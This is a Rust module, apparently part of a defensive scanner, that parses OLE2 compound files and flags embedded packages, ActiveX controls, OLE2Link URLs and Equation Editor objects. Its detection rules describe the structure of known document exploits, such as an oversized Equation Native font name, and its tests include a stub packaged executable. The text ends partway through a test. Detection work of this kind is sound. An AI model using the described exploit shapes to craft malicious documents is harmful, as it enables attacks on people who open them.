//! Embedded objects in OLE2 compound files: .doc/.xls/.ppt, and the
//! compound files that come out of RTF `\objdata` or OOXML `embeddings/`.
//!
//! What it reports, storage by storage (the root included when it is an
//! object rather than a document):
//! - `\x01Ole10Native` streams: an OLE Package (the Packager's file) →
//!   [`IndicatorKind::OlePackage`] with the file name, and the file itself as
//!   [`Embedded`];
//! - the Equation Editor (a CLSID of [`EQUATION_CLSIDS`], a `\x01CompObj`
//!   naming `Equation.3`, or an `Equation Native` stream) →
//!   [`IndicatorKind::EquationEditor`];
//! - ActiveX controls (`\x03OCXNAME`, `OCXDATA`, `\x03OCXDATA`, Excel's
//!   `Ctls`) → [`IndicatorKind::ActiveX`] with the CLSID;
//! - any other embedded object (ObjectPool in Word, MBD* in Excel, a
//!   compound file that is itself an object) → [`IndicatorKind::OleObject`]
//!   with its ProgID and CLSID; its `Package` (an embedded OOXML file) or
//!   `CONTENTS` stream is returned as [`Embedded`].
//!
//! The compound file is parsed by the `cfb` crate; every stream read is
//! charged to the [`Budget`] first and capped at [`Limits::max_stream_bytes`].

use std::borrow::Cow;
use std::collections::HashMap;
use std::io::{Cursor, Read, Seek};

use bytes::Bytes;

use super::{Budget, Embedded, IndicatorKind, Opened, Passwords};

pub const OLE_MAGIC: [u8; 8] = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];

/// The Equation Editor's CLSIDs (CVE-2017-11882, CVE-2018-0802): Microsoft
/// Equation 3.0, its 0002CE03 sibling, and Microsoft Equation 2.0.
pub const EQUATION_CLSIDS: [&str; 3] = [
    "0002CE02-0000-0000-C000-000000000046",
    "0002CE03-0000-0000-C000-000000000046",
    "00021700-0000-0000-C000-000000000046",
];

/// StdOleLink: an OLE2Link object, which fetches the target of its moniker
/// (CVE-2017-0199).
pub const STD_OLE_LINK: &str = "00000300-0000-0000-C000-000000000046";

const URL_MONIKER: &str = "79EAC9E0-BAF9-11CE-8C82-00AA004BA90B";
const FILE_MONIKER: &str = "00000303-0000-0000-C000-000000000046";

/// CLSIDs of the OLE Packager (its data is an `Ole10Native` stream).
const PACKAGE_CLSIDS: [&str; 2] = [
    "0003000C-0000-0000-C000-000000000046",
    "F20DA720-C02F-11CE-927B-0800095AE340",
];

/// Bounds on the work one compound file may cause (besides the budget).
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct Limits {
    /// Entries (streams and storages) listed per compound file.
    pub max_entries: usize,
    /// Bytes read from one stream.
    pub max_stream_bytes: u64,
    /// Objects (indicators with embedded files) reported per compound file.
    pub max_objects: usize,
}

impl Default for Limits {
    fn default() -> Limits {
        Limits {
            max_entries: 10_000,
            max_stream_bytes: 64 << 20,
            max_objects: 256,
        }
    }
}

/// True when `data` is an OLE2 compound file.
pub fn sniff(data: &[u8]) -> bool {
    data.starts_with(&OLE_MAGIC)
}

/// Everything found inside, within the budget, with the default limits.
pub fn open(data: &[u8], budget: &Budget, _passwords: Passwords<'_>) -> Opened {
    open_with(data, budget, &Limits::default())
}

/// [`open`] with explicit limits.
pub fn open_with(data: &[u8], budget: &Budget, limits: &Limits) -> Opened {
    let mut out = Opened::default();
    if !sniff(data) {
        return out;
    }
    let mut file = match open_cfb(data, budget, limits.max_stream_bytes) {
        Ok(f) => f,
        Err(why) => {
            out.limits.push(format!("not a readable OLE2 file: {why}"));
            // A damaged compound file may still name the Equation Editor.
            if let Some(clsid) = equation_clsid_in(data) {
                out.indicator(IndicatorKind::EquationEditor, format!("CLSID {clsid}"));
            }
            return out;
        }
    };
    let entries = list_entries(&file, limits.max_entries, &mut out);
    // The streams of each storage, indexed once (a hostile file may hold
    // thousands of storages).
    let mut streams_of: HashMap<&str, Vec<usize>> = HashMap::new();
    for (k, e) in entries.iter().enumerate().filter(|(_, e)| e.is_stream) {
        streams_of.entry(parent_of(&e.path)).or_default().push(k);
    }
    let mut objects = 0usize;
    let mut controls: Vec<(String, Vec<String>)> = Vec::new();
    for storage in entries.iter().filter(|e| !e.is_stream) {
        if budget.expired() {
            out.limits
                .push("the scan's time budget ran out in an OLE file".into());
            break;
        }
        if objects >= limits.max_objects {
            out.limits.push(format!(
                "more than {} embedded objects in one OLE file; the rest not checked",
                limits.max_objects
            ));
            break;
        }
        if in_vba_project(&storage.path) {
            continue;
        }
        let children: Vec<&Entry> = streams_of
            .get(storage.path.as_str())
            .map(|v| v.iter().filter_map(|&k| entries.get(k)).collect())
            .unwrap_or_default();
        let has = |name: &str| children.iter().any(|c| c.name.eq_ignore_ascii_case(name));
        let document = ["WordDocument", "Workbook", "Book", "PowerPoint Document"]
            .iter()
            .any(|n| has(n))
            || has("VisioDocument");
        let marked = has("\u{1}Ole")
            || has("\u{1}CompObj")
            || has("\u{1}Ole10Native")
            || has("Equation Native")
            || has("\u{3}OCXNAME")
            || has("\u{3}OCXDATA")
            || has("OCXDATA");
        let pooled = {
            let parent = parent_of(&storage.path);
            let parent_name = parent.rsplit('/').next().unwrap_or("");
            parent_name.eq_ignore_ascii_case("ObjectPool")
                || storage.name.to_ascii_uppercase().starts_with("MBD")
        };
        let clsid = storage.clsid.clone();
        if document && storage.path == "/" {
            // The document itself. Excel keeps ActiveX controls' data in
            // a `Ctls` stream beside the workbook.
            if has("Ctls") {
                out.indicator(
                    IndicatorKind::ActiveX,
                    "Excel Ctls stream (ActiveX controls)",
                );
                objects += 1;
            }
            continue;
        }
        let root_object = storage.path == "/" && clsid.is_some();
        if !(marked || root_object || (pooled && clsid.is_some())) {
            continue;
        }
        objects += 1;
        let where_ = if storage.path == "/" {
            String::new()
        } else {
            format!(" in {}", storage.path.trim_start_matches('/'))
        };
        let prog_id = if has("\u{1}CompObj") {
            read_stream(
                &mut file,
                &join(&storage.path, "\u{1}CompObj"),
                4096,
                budget,
                &mut out,
            )
            .and_then(|s| compobj_prog_id(&s))
        } else {
            None
        };
        let named = describe(prog_id.as_deref(), clsid.as_deref());
        let is_equation = clsid.as_deref().is_some_and(is_equation_clsid)
            || prog_id.as_deref().is_some_and(is_equation_prog_id)
            || has("Equation Native");
        if is_equation {
            let via = if has("Equation Native") {
                " with an Equation Native stream"
            } else {
                ""
            };
            out.indicator(
                IndicatorKind::EquationEditor,
                format!("{named}{via}{where_}"),
            );
            if has("Equation Native") {
                let path = join(&storage.path, "Equation Native");
                if let Some(eq) = read_stream(&mut file, &path, 65536, budget, &mut out) {
                    if let Some(len) = overflowing_font_name(&eq) {
                        out.indicator(
                            IndicatorKind::Malformed,
                            format!(
                                "Equation Native{where_} has a {len}-byte font name, past \
                                 the Equation Editor's buffer (CVE-2017-11882/CVE-2018-0802)"
                            ),
                        );
                    }
                }
            }
            continue;
        }
        if has("\u{1}Ole10Native") {
            let path = join(&storage.path, "\u{1}Ole10Native");
            if let Some(stream) =
                read_stream(&mut file, &path, limits.max_stream_bytes, budget, &mut out)
            {
                let stream = Bytes::from(stream);
                // The stream starts with the size of what follows.
                let native = stream.slice(4.min(stream.len())..);
                package_native(&native, "OLE Package (Ole10Native stream)", &mut out);
            }
            continue;
        }
        if has("\u{3}OCXNAME") || has("\u{3}OCXDATA") || has("OCXDATA") {
            let name = if has("\u{3}OCXNAME") {
                read_stream(
                    &mut file,
                    &join(&storage.path, "\u{3}OCXNAME"),
                    512,
                    budget,
                    &mut out,
                )
                .map(|s| utf16z(&s))
                .filter(|s| !s.is_empty())
            } else {
                None
            };
            // One indicator per kind of control, naming a few of them:
            // documents carry dozens of text boxes.
            let shown = name.unwrap_or_else(|| storage.path.trim_start_matches('/').to_string());
            match controls.iter_mut().find(|(n, _)| *n == named) {
                Some((_, names)) => names.push(shown),
                None => controls.push((named, vec![shown])),
            }
            continue;
        }
        if clsid.as_deref() == Some(STD_OLE_LINK) && has("\u{1}Ole") {
            out.indicator(
                IndicatorKind::OleObject,
                format!("OLE2Link {named}{where_}"),
            );
            let path = join(&storage.path, "\u{1}Ole");
            if let Some(s) = read_stream(&mut file, &path, 65536, budget, &mut out) {
                for url in moniker_targets(&s, 8) {
                    out.indicator(
                        IndicatorKind::ExternalReference,
                        format!("OLE2Link oleObject: {url}"),
                    );
                }
            }
            continue;
        }
        if clsid
            .as_deref()
            .is_some_and(|c| PACKAGE_CLSIDS.contains(&c))
        {
            out.indicator(
                IndicatorKind::OlePackage,
                format!("{named}{where_} (no Ole10Native stream)"),
            );
            continue;
        }
        out.indicator(IndicatorKind::OleObject, format!("{named}{where_}"));
        // An embedded OOXML file (Package), or PDF, Flash and the like
        // (CONTENTS).
        for child in children.iter().filter(|c| {
            c.name.eq_ignore_ascii_case("Package") || c.name.eq_ignore_ascii_case("CONTENTS")
        }) {
            if let Some(s) = read_stream(
                &mut file,
                &child.path,
                limits.max_stream_bytes,
                budget,
                &mut out,
            ) {
                if !s.is_empty() {
                    out.embedded
                        .push(Embedded::new(None, s, "OLE object stream"));
                }
            }
        }
    }
    for (named, names) in controls {
        let mut detail = format!("{named}: {} control(s) ", names.len());
        let listed: Vec<&str> = names.iter().take(5).map(String::as_str).collect();
        detail.push_str(&listed.join(", "));
        if names.len() > 5 {
            detail.push_str(", ...");
        }
        out.indicator(IndicatorKind::ActiveX, detail);
    }
    out
}

/// One directory entry, listed once.
struct Entry {
    path: String,
    name: String,
    is_stream: bool,
    /// Upper-case canonical CLSID, `None` when nil.
    clsid: Option<String>,
}

fn list_entries<F: Read + Seek>(
    file: &cfb::CompoundFile<F>,
    max: usize,
    out: &mut Opened,
) -> Vec<Entry> {
    let mut entries = Vec::new();
    for (seen, e) in file.walk().enumerate() {
        if seen >= max {
            out.limits.push(format!(
                "more than {max} entries in an OLE file; the rest not checked"
            ));
            break;
        }
        let clsid = e.clsid();
        entries.push(Entry {
            path: e.path().to_string_lossy().into_owned(),
            name: e.name().to_string(),
            is_stream: e.is_stream(),
            clsid: (!clsid.is_nil()).then(|| clsid.to_string().to_ascii_uppercase()),
        });
    }
    entries
}

/// Open a compound file, padded to the size its FAT describes when it is
/// shorter.
pub(crate) fn open_cfb<'a>(
    data: &'a [u8],
    budget: &Budget,
    max_bytes: u64,
) -> std::io::Result<cfb::CompoundFile<Cursor<Cow<'a, [u8]>>>> {
    // Truncated files (the FAT covers sectors past the end) are common in
    // RTF \objdata and Office opens them: pad them with zeros (within the
    // budget) so that streams read to their end.
    if let Some(wanted) = padded_size(data, max_bytes) {
        if let (Ok(()), Ok(size)) = (budget.take(wanted), usize::try_from(wanted)) {
            let mut padded = Vec::with_capacity(size);
            padded.extend_from_slice(data);
            padded.resize(size, 0);
            if let Ok(f) = cfb::CompoundFile::open(Cursor::new(Cow::Owned(padded))) {
                return Ok(f);
            }
        }
    }
    cfb::CompoundFile::open(Cursor::new(Cow::Borrowed(data)))
}

/// The size a truncated compound file should have: a whole number of
/// sectors, at least what its FAT describes; `None` when it is not
/// truncated or would exceed `max`.
fn padded_size(data: &[u8], max: u64) -> Option<u64> {
    let header = data.get(..512)?;
    let shift = u16::from_le_bytes([*header.get(0x1E)?, *header.get(0x1F)?]);
    if shift != 9 && shift != 12 {
        return None;
    }
    let sector = 1u64 << shift;
    let fat_sectors = u64::from(u32::from_le_bytes([
        *header.get(0x2C)?,
        *header.get(0x2D)?,
        *header.get(0x2E)?,
        *header.get(0x2F)?,
    ]));
    let len = data.len() as u64;
    let whole = len.div_ceil(sector).checked_mul(sector)?;
    // Each FAT sector maps sector/4 sectors; the header takes one sector.
    let by_fat = fat_sectors
        .checked_mul(sector / 4)?
        .checked_add(1)?
        .checked_mul(sector)?;
    // Exploits cut a few sectors off; a header claiming a huge FAT must not
    // make a small file cost megabytes of zeros.
    let reach = len.saturating_mul(2).saturating_add(1 << 16);
    let wanted = whole.max(by_fat.min(reach)).min(max);
    (wanted > len).then_some(wanted)
}

/// Read at most `cap` bytes of a stream, charging them to the budget first.
fn read_stream<F: Read + Seek>(
    file: &mut cfb::CompoundFile<F>,
    path: &str,
    cap: u64,
    budget: &Budget,
    out: &mut Opened,
) -> Option<Vec<u8>> {
    let stream = match file.open_stream(path) {
        Ok(s) => s,
        Err(e) => {
            out.limits
                .push(format!("OLE stream {}: {e}", printable(path)));
            return None;
        }
    };
    let len = stream.len().min(cap);
    if let Err(e) = budget.take(len) {
        out.limits
            .push(format!("OLE stream {} not read: {e}", printable(path)));
        return None;
    }
    let mut data = Vec::new();
    // The crate's own read_to_end keeps what a damaged (short) chain holds;
    // a stream longer than the cap is read through `take`.
    let read = if stream.len() <= cap {
        let mut stream = stream;
        stream.read_to_end(&mut data)
    } else {
        stream.take(len).read_to_end(&mut data)
    };
    if let Err(e) = read {
        out.limits
            .push(format!("OLE stream {}: {e}", printable(path)));
        // What was read before the damage is still worth a look.
        if data.is_empty() {
            return None;
        }
    }
    data.truncate(usize::try_from(len).unwrap_or(usize::MAX));
    Some(data)
}

/// UTF-16LE URLs (`http://`, `https://`, `file://`, `\\host`) in `data`, at
/// most `max`, each at most 2048 characters.
pub(crate) fn utf16_urls(data: &[u8], max: usize) -> Vec<String> {
    let mut found = Vec::new();
    for prefix in ["http://", "https://", "file://", "\\\\"] {
        let pattern: Vec<u8> = prefix
            .encode_utf16()
            .flat_map(|u| u.to_le_bytes())
            .collect();
        let mut from = 0;
        while let Some(at) = data
            .get(from..)
            .and_then(|rest| memchr::memmem::find(rest, &pattern))
        {
            let start = from + at;
            let units: Vec<u16> = data
                .get(start..)
                .unwrap_or(&[])
                .chunks_exact(2)
                .map(|c| u16::from_le_bytes([c[0], c[1]]))
                .take_while(|&u| u > 0x20 && u != 0x7F)
                .take(2048)
                .collect();
            from = start + units.len().max(1) * 2;
            let url = String::from_utf16_lossy(&units);
            if url.len() > prefix.len() && !found.contains(&url) {
                found.push(url);
                if found.len() >= max {
                    return found;
                }
            }
        }
    }
    found
}

/// The targets of the monikers in an OLE2Link's `\x01Ole` stream (or any
/// bytes holding one): URL monikers (a UTF-16 URL) and file monikers (an
/// ANSI path, CVE-2017-8570 scriptlets), then any UTF-16 URL; at most
/// `max`.
pub(crate) fn moniker_targets(data: &[u8], max: usize) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    let add = |t: String, found: &mut Vec<String>| {
        let t = t.trim().to_string();
        if !t.is_empty() && found.len() < max && !found.contains(&t) {
            found.push(t);
        }
    };
    if let Some(clsid) = clsid_bytes(URL_MONIKER) {
        for at in memchr::memmem::find_iter(data, &clsid) {
            let mut r = Reader::new(data.get(at + 16..).unwrap_or(&[]));
            let Some(len) = r.u32() else { continue };
            let raw = r.take((len as usize).min(4096)).unwrap_or_else(|| r.rest());
            add(utf16z(raw), &mut found);
        }
    }
    if let Some(clsid) = clsid_bytes(FILE_MONIKER) {
        for at in memchr::memmem::find_iter(data, &clsid) {
            let mut r = Reader::new(data.get(at + 16..).unwrap_or(&[]));
            let (Some(_anti), Some(len)) = (r.u16(), r.u32()) else {
                continue;
            };
            if let Some(raw) = r.take((len as usize).min(4096)) {
                add(
                    ansi(raw.split(|&b| b == 0).next().unwrap_or(&[])),
                    &mut found,
                );
            }
        }
    }
    for url in utf16_urls(data, max) {
        add(url, &mut found);
    }
    found
}

/// The CLSID of a compound file's root storage (upper case), if it opens
/// and has one.
pub(crate) fn root_clsid(data: &[u8], budget: &Budget) -> Option<String> {
    let file = open_cfb(data, budget, Limits::default().max_stream_bytes).ok()?;
    let clsid = *file.root_entry().clsid();
    (!clsid.is_nil()).then(|| clsid.to_string().to_ascii_uppercase())
}

/// An OLE Package's native data (the `Ole10Native` stream after its size,
/// or an OLE1 `Package` object's native data): report the packaged file and
/// return it as embedded. `native` is shared, not copied.
pub(crate) fn package_native(native: &Bytes, how: &'static str, out: &mut Opened) {
    match parse_package(native) {
        Some(p) => {
            let name = p.file_name();
            let mut detail = if name.is_empty() {
                "(no file name)".to_string()
            } else {
                name.clone()
            };
            if !p.label.is_empty() && p.label != name && p.label != p.source {
                detail.push_str(&format!(" (label {})", p.label));
            }
            if !p.source.is_empty() && p.source != name {
                detail.push_str(&format!(" from {}", p.source));
            }
            if !p.temp_path.is_empty() {
                detail.push_str(&format!(", temp path {}", p.temp_path));
            }
            out.indicator(IndicatorKind::OlePackage, detail);
            if let Some((start, end, declared)) = p.data {
                let mut e = Embedded::new(
                    (!name.is_empty()).then_some(name),
                    native.slice(start..end),
                    how,
                );
                if declared != (end - start) as u64 {
                    e.declared_size = Some(declared);
                }
                out.embedded.push(e);
            }
        }
        None => {
            // Packager could not read it either: an object, not a package.
            out.indicator(IndicatorKind::OleObject, "OLE Package with unreadable data");
            out.limits
                .push("OLE Package data too short or damaged to read".into());
        }
    }
}

/// The parts of the Packager's native data.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Package {
    pub label: String,
    /// The path the file was packaged from.
    pub source: String,
    pub temp_path: String,
    /// The packaged file's range in the native data, and its declared size.
    pub data: Option<(usize, usize, u64)>,
}

impl Package {
    /// The packaged file's name: the last part of its paths, else the label.
    pub fn file_name(&self) -> String {
        let base = |p: &str| p.rsplit(['\\', '/']).next().unwrap_or("").to_string();
        for p in [&self.temp_path, &self.source] {
            let b = base(p);
            if !b.is_empty() {
                return b;
            }
        }
        self.label.clone()
    }
}

/// Parse Packager native data: u16 signature, label (ANSI, NUL-ended),
/// source path (NUL-ended), u16 reserved, u16 type (3 = embedded file,
/// 1 = link), u32 temp path length, temp path, u32 data size, data.
pub(crate) fn parse_package(native: &[u8]) -> Option<Package> {
    let mut r = Reader::new(native);
    r.u16()?;
    let label = r.cstr()?;
    let source = r.cstr()?;
    // Links end here with a path only; embedded files carry their data.
    let mut package = Package {
        label,
        source,
        temp_path: String::new(),
        data: None,
    };
    let (Some(_reserved), Some(kind)) = (r.u16(), r.u16()) else {
        return Some(package);
    };
    let Some(temp_len) = r.u32() else {
        return Some(package);
    };
    let temp = r.take(temp_len as usize).unwrap_or_else(|| r.rest());
    package.temp_path = ansi(temp.split(|&b| b == 0).next().unwrap_or(&[]));
    if kind != 3 {
        return Some(package);
    }
    if let Some(size) = r.u32() {
        let start = r.pos;
        let end = start.saturating_add(size as usize).min(native.len());
        package.data = Some((start, end, u64::from(size)));
        // After the data, newer packagers repeat the temp path, label and
        // source path in UTF-16 (the ANSI ones lose non-Latin letters).
        if end == start.saturating_add(size as usize) {
            let mut tail = Reader::new(native.get(end..).unwrap_or(&[]));
            let mut wide = || -> Option<String> {
                let chars = tail.u32()? as usize;
                if chars > 32768 {
                    return None;
                }
                Some(utf16z(tail.take(chars.checked_mul(2)?)?))
            };
            if let (Some(temp), Some(label), Some(source)) = (wide(), wide(), wide()) {
                for (ansi, wide) in [
                    (&mut package.temp_path, temp),
                    (&mut package.label, label),
                    (&mut package.source, source),
                ] {
                    if !wide.is_empty() {
                        *ansi = wide;
                    }
                }
            }
        }
    }
    Some(package)
}

/// The ProgID of a `\x01CompObj` stream ([MS-OLEDS] 2.3.8): 28-byte
/// header, AnsiUserType, AnsiClipboardFormat, then the ProgID (all
/// length-prefixed ANSI strings).
pub(crate) fn compobj_prog_id(data: &[u8]) -> Option<String> {
    let mut r = Reader::new(data);
    r.take(28)?;
    r.lpstr(4096)?;
    let marker = r.u32()?;
    match marker {
        0 => {}
        0xFFFF_FFFF | 0xFFFF_FFFE => {
            r.u32()?;
        }
        len => {
            r.take(len as usize)?;
        }
    }
    let prog_id = r.lpstr(4096)?;
    (!prog_id.is_empty()).then_some(prog_id)
}

/// The length of a font name in an `Equation Native` stream's MTEF data
/// that overflows the Equation Editor's 32-byte name buffer, the shape of
/// CVE-2017-11882 and CVE-2018-0802; `None` for an ordinary equation.
///
/// The stream is a 28-byte EQNOLEFILEHDR (its size in the first u16), then
/// MTEF: a 5-byte header and records. A FONT record is tag 8, a typeface
/// byte, a style byte and a NUL-ended name; honest names are short.
pub fn overflowing_font_name(stream: &[u8]) -> Option<usize> {
    let header = usize::from(u16::from_le_bytes([*stream.first()?, *stream.get(1)?]));
    let mtef = stream.get(header.max(2)..)?;
    // MTEF versions 2 and 3 are what the Equation Editor reads.
    if !matches!(mtef.first(), Some(2 | 3)) {
        return None;
    }
    let records = mtef.get(5..)?;
    for (at, _) in records.iter().enumerate().filter(|(_, &b)| b == 8) {
        let name = records.get(at + 3..)?;
        let len = memchr::memchr(0, name).unwrap_or(name.len());
        if len > 32 {
            return Some(len);
        }
    }
    None
}

/// `Equation.3` in any case, with or without junk after it.
pub fn is_equation_prog_id(prog_id: &str) -> bool {
    let p = prog_id.trim_matches(|c: char| c.is_whitespace() || c == '\0');
    p.get(..10)
        .is_some_and(|head| head.eq_ignore_ascii_case("equation.3"))
        || p.get(..10)
            .is_some_and(|head| head.eq_ignore_ascii_case("equation.2"))
}

pub fn is_equation_clsid(clsid: &str) -> bool {
    EQUATION_CLSIDS
        .iter()
        .any(|c| c.eq_ignore_ascii_case(clsid))
}

/// An Equation Editor CLSID written raw (as a compound file stores it:
/// little-endian fields) anywhere in `data`.
pub fn equation_clsid_in(data: &[u8]) -> Option<&'static str> {
    EQUATION_CLSIDS
        .iter()
        .copied()
        .find(|c| clsid_bytes(c).is_some_and(|b| memchr::memmem::find(data, &b).is_some()))
}

/// The 16 bytes of a CLSID as stored on disk.
fn clsid_bytes(clsid: &str) -> Option<[u8; 16]> {
    let hex: Vec<u8> = clsid.bytes().filter(|b| *b != b'-').collect();
    if hex.len() != 32 {
        return None;
    }
    let mut raw = [0u8; 16];
    for (i, pair) in hex.chunks_exact(2).enumerate() {
        let s = std::str::from_utf8(pair).ok()?;
        raw[i] = u8::from_str_radix(s, 16).ok()?;
    }
    // Data1 (u32), Data2 (u16) and Data3 (u16) are little-endian.
    let mut out = raw;
    out[0..4].copy_from_slice(&[raw[3], raw[2], raw[1], raw[0]]);
    out[4..6].copy_from_slice(&[raw[5], raw[4]]);
    out[6..8].copy_from_slice(&[raw[7], raw[6]]);
    Some(out)
}

fn describe(prog_id: Option<&str>, clsid: Option<&str>) -> String {
    match (prog_id, clsid) {
        (Some(p), Some(c)) => format!("{p} (CLSID {c})"),
        (Some(p), None) => p.to_string(),
        (None, Some(c)) => format!("CLSID {c}"),
        (None, None) => "unnamed object".to_string(),
    }
}

/// Storages of a VBA project hold UserForms with their own CompObj: those
/// are the macro detector's business, not embedded objects.
fn in_vba_project(path: &str) -> bool {
    let mut parts = path.trim_start_matches('/').split('/');
    let top = parts.next().unwrap_or("");
    ["Macros", "_VBA_PROJECT_CUR", "VBA"]
        .iter()
        .any(|v| v.eq_ignore_ascii_case(top))
}

fn parent_of(path: &str) -> &str {
    match path.rfind('/') {
        Some(0) | None => "/",
        Some(i) => &path[..i],
    }
}

fn join(storage: &str, name: &str) -> String {
    if storage == "/" {
        format!("/{name}")
    } else {
        format!("{storage}/{name}")
    }
}

/// A stream path with its control characters shown as `\xNN`.
fn printable(path: &str) -> String {
    path.chars()
        .map(|c| {
            if c.is_control() {
                format!("\\x{:02X}", c as u32)
            } else {
                c.to_string()
            }
        })
        .collect()
}

/// A NUL-ended UTF-16LE string.
fn utf16z(data: &[u8]) -> String {
    let units: Vec<u16> = data
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .take_while(|&u| u != 0)
        .collect();
    String::from_utf16_lossy(&units)
}

/// ANSI text as Latin-1 (file names are shown, never interpreted).
pub(crate) fn ansi(bytes: &[u8]) -> String {
    bytes.iter().map(|&b| b as char).collect()
}

/// A bounds-checked little-endian reader over untrusted bytes.
pub(crate) struct Reader<'a> {
    data: &'a [u8],
    pub pos: usize,
}

impl<'a> Reader<'a> {
    pub fn new(data: &'a [u8]) -> Reader<'a> {
        Reader { data, pos: 0 }
    }

    pub fn take(&mut self, n: usize) -> Option<&'a [u8]> {
        let end = self.pos.checked_add(n)?;
        let s = self.data.get(self.pos..end)?;
        self.pos = end;
        Some(s)
    }

    pub fn rest(&mut self) -> &'a [u8] {
        let s = self.data.get(self.pos..).unwrap_or(&[]);
        self.pos = self.data.len();
        s
    }

    pub fn u16(&mut self) -> Option<u16> {
        self.take(2).map(|b| u16::from_le_bytes([b[0], b[1]]))
    }

    pub fn u32(&mut self) -> Option<u32> {
        self.take(4)
            .map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]))
    }

    /// A NUL-ended ANSI string (at most 4096 bytes).
    pub fn cstr(&mut self) -> Option<String> {
        let rest = self.data.get(self.pos..)?;
        let len = memchr::memchr(0, rest.get(..rest.len().min(4096))?)?;
        let s = ansi(self.take(len)?);
        self.take(1)?;
        Some(s)
    }

    /// A u32-length-prefixed ANSI string (the length counts its NUL).
    pub fn lpstr(&mut self, max: usize) -> Option<String> {
        let len = self.u32()? as usize;
        if len > max {
            return None;
        }
        let raw = self.take(len)?;
        Some(ansi(raw.split(|&b| b == 0).next().unwrap_or(&[])))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    fn build(f: impl FnOnce(&mut cfb::CompoundFile<Cursor<Vec<u8>>>)) -> Vec<u8> {
        let mut c = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
        f(&mut c);
        c.flush().unwrap();
        c.into_inner().into_inner()
    }

    fn put(c: &mut cfb::CompoundFile<Cursor<Vec<u8>>>, path: &str, data: &[u8]) {
        c.create_stream(path).unwrap().write_all(data).unwrap();
    }

    pub(crate) fn package_bytes(label: &str, path: &str, data: &[u8]) -> Vec<u8> {
        let mut v = vec![2, 0];
        v.extend_from_slice(label.as_bytes());
        v.push(0);
        v.extend_from_slice(path.as_bytes());
        v.push(0);
        v.extend_from_slice(&[0, 0, 3, 0]);
        let temp = format!("C:\\Users\\x\\AppData\\Local\\Temp\\{label}\0");
        v.extend_from_slice(&(temp.len() as u32).to_le_bytes());
        v.extend_from_slice(temp.as_bytes());
        v.extend_from_slice(&(data.len() as u32).to_le_bytes());
        v.extend_from_slice(data);
        v
    }

    fn compobj(prog_id: &str) -> Vec<u8> {
        let mut v = vec![0u8; 28];
        let user = b"Microsoft Equation 3.0\0";
        v.extend_from_slice(&(user.len() as u32).to_le_bytes());
        v.extend_from_slice(user);
        v.extend_from_slice(&0u32.to_le_bytes());
        let p = format!("{prog_id}\0");
        v.extend_from_slice(&(p.len() as u32).to_le_bytes());
        v.extend_from_slice(p.as_bytes());
        v
    }

    fn run(data: &[u8]) -> Opened {
        open(data, &Budget::generous(), Passwords::default())
    }

    fn kinds(o: &Opened) -> Vec<IndicatorKind> {
        o.indicators.iter().map(|i| i.kind).collect()
    }

    #[test]
    fn ole10native_package_yields_the_file() {
        let exe = b"MZ\x90\0payload";
        let native = package_bytes("invoice.exe", "C:\\tmp\\invoice.exe", exe);
        let mut stream = (native.len() as u32).to_le_bytes().to_vec();
        stream.extend_from_slice(&native);
        let file = build(|c| {
            c.create_storage("/ObjectPool").unwrap();
            c.create_storage("/ObjectPool/_1").unwrap();
            put(c, "/ObjectPool/_1/\u{1}Ole10Native", &stream);
            put(c, "/WordDocument", &[0u8; 64]);
        });
        let o = run(&file);
        assert_eq!(kinds(&o), vec![IndicatorKind::OlePackage]);
        assert!(
            o.indicators[0].detail.starts_with("invoice.exe"),
            "{:?}",
            o.indicators
        );
        assert_eq!(o.embedded.len(), 1);
        assert_eq!(&o.embedded[0].data[..], exe);
        assert_eq!(o.embedded[0].name.as_deref(), Some("invoice.exe"));
    }

    #[test]
    fn equation_editor_by_clsid_compobj_or_stream() {
        let by_clsid = build(|c| {
            c.set_storage_clsid("/", "0002ce02-0000-0000-c000-000000000046".parse().unwrap())
                .unwrap();
            put(c, "/\u{1}Ole", &[1, 0, 0, 2]);
        });
        let o = run(&by_clsid);
        assert_eq!(kinds(&o), vec![IndicatorKind::EquationEditor]);
        assert!(o.indicators[0].detail.contains("0002CE02"));

        let by_progid = build(|c| put(c, "/\u{1}CompObj", &compobj("eQuAtIoN.3\u{7}junk")));
        assert_eq!(kinds(&run(&by_progid)), vec![IndicatorKind::EquationEditor]);

        let by_stream = build(|c| put(c, "/Equation Native", &[0x1C, 0, 0, 0]));
        assert_eq!(kinds(&run(&by_stream)), vec![IndicatorKind::EquationEditor]);
    }

    #[test]
    fn activex_and_other_objects() {
        let file = build(|c| {
            put(c, "/WordDocument", &[0u8; 64]);
            c.create_storage("/ObjectPool").unwrap();
            c.create_storage("/ObjectPool/_2").unwrap();
            let name: Vec<u8> = "Shell.Explorer.2\0"
                .encode_utf16()
                .flat_map(|u| u.to_le_bytes())
                .collect();
            put(c, "/ObjectPool/_2/\u{3}OCXNAME", &name);
            put(c, "/ObjectPool/_2/contents", b"x");
            c.create_storage("/ObjectPool/_3").unwrap();
            put(c, "/ObjectPool/_3/\u{1}CompObj", &compobj("Excel.Sheet.12"));
            put(c, "/ObjectPool/_3/Package", b"PK\x03\x04inner");
        });
        let o = run(&file);
        assert_eq!(
            kinds(&o),
            vec![IndicatorKind::OleObject, IndicatorKind::ActiveX]
        );
        assert!(o.indicators[0].detail.starts_with("Excel.Sheet.12"));
        assert!(o.indicators[1].detail.contains("Shell.Explorer.2"));
        assert_eq!(&o.embedded[0].data[..], b"PK\x03\x04inner");
    }

    #[test]
    fn plain_document_and_vba_forms_are_quiet() {
        let file = build(|c| {
            put(c, "/WordDocument", &[0u8; 64]);
            put(c, "/1Table", &[0u8; 64]);
            c.create_storage("/Macros").unwrap();
            c.create_storage("/Macros/UserForm1").unwrap();
            put(
                c,
                "/Macros/UserForm1/\u{1}CompObj",
                &compobj("Forms.Form.1"),
            );
        });
        let o = run(&file);
        assert!(o.is_empty(), "{o:?}");
    }

    #[test]
    fn damaged_file_still_names_the_equation_editor() {
        let mut data = OLE_MAGIC.to_vec();
        data.extend_from_slice(&[0xFF; 100]);
        data.extend_from_slice(&clsid_bytes(EQUATION_CLSIDS[0]).unwrap());
        let o = run(&data);
